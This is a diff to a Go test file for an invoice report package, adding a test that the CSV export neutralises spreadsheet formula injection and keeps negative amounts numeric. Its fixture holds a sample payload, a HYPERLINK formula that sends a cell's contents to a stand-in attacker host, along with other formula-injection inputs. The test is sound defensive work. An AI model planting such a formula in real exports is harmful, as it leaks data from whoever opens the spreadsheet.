@@ -2,10 +2,12 @@ package report
 
 import (
 	"archive/zip"
+	"encoding/csv"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/kaipiao/kaipiao/invoice"
 	"github.com/kaipiao/kaipiao/store"
@@ -40,5 +42,43 @@ func TestPDFNamesAreMadeOfDigitsOnly(t *testing.T) {
 	}
 	if _, err := PDFName(&invoice.Invoice{Issued: invoice.Issued{Code: "035020026011", Number: "0000001/"}}); err == nil {
 		t.Fatal("a number with a slash made a name")
+	}
+}
+
+// The review: the CSV export wrote =HYPERLINK(…) cells raw. A cell that a spreadsheet
+// would run is written with a leading apostrophe; a red invoice's negative amount stays
+// a number.
+func TestCSVExportNeutralisesFormulas(t *testing.T) {
+	inv := &invoice.Invoice{Issued: invoice.Issued{Code: "035020026011", Number: "00000001"},
+		Buyer: invoice.Party{Name: `=HYPERLINK("http://evil.example/?"&A1,"点此")`, TaxID: "+1234"},
+		Lines: []invoice.Line{{Name: "@SUM(A1:A9)", Amount: -10000, Rate: invoice.Rate6, Tax: -600}}}
+	var b strings.Builder
+	if err := WriteListCSV(&b, []*store.Record{{Invoice: inv}}, time.UTC); err != nil {
+		t.Fatal(err)
+	}
+	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\ufeff")))
+	r.FieldsPerRecord = -1
+	rows, err := r.ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	negative := false
+	for _, row := range rows {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
+				t.Errorf("a formula cell left as it was: %q", cell)
+			}
+			if strings.HasPrefix(cell, "-") && cell != "-" {
+				negative = true
+			}
+		}
+	}
+	if !negative || !strings.Contains(b.String(), `'=HYPERLINK`) {
+		t.Fatalf("export:\n%s", b.String())
+	}
+	for in, want := range map[string]string{"-100.00": "-100.00", "-cmd": "'-cmd", "正常": "正常", "\t=1": "'\t=1"} {
+		if got := NeutralCell(in); got != want {
+			t.Errorf("NeutralCell(%q) = %q, want %q", in, got, want)
+		}
 	}
 }
